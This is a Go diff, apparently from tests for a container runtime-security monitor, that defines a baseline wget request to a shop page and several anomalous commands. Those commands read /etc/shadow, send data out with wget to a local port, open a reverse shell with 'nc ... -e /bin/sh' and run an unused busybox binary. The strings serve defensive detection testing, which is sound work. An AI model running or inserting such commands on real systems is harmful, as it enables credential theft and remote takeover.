@@ -20,10 +20,15 @@ const (
 const (
 	// normal is the shop's usual traffic: a client fetching the page.
 	normal = "wget -q -O - " + shopURL
-	// readShadow reads a file the shop never read: new in monitor mode.
+	// readShadow reads a file the shop never read, with a program it never
+	// ran (busybox's cat): new in monitor mode.
 	readShadow = "cat /etc/shadow"
-	// reverseShell connects somewhere the shop never connected.
-	reverseShell = "nc 127.0.0.1 4444"
+	// exfiltrate sends to somewhere the shop never connected, with the
+	// program it uses (busybox's wget).
+	exfiltrate = "wget -q -O - http://127.0.0.1:4444/"
+	// reverseShell runs nc, a busybox applet the shop never ran, although
+	// it is the same file as the shop's wget.
+	reverseShell = "nc 127.0.0.1 4444 -e /bin/sh"
 	// strangeTool runs a program the image ships but the shop never ran.
 	strangeTool = "/opt/tools/busybox id"
 )
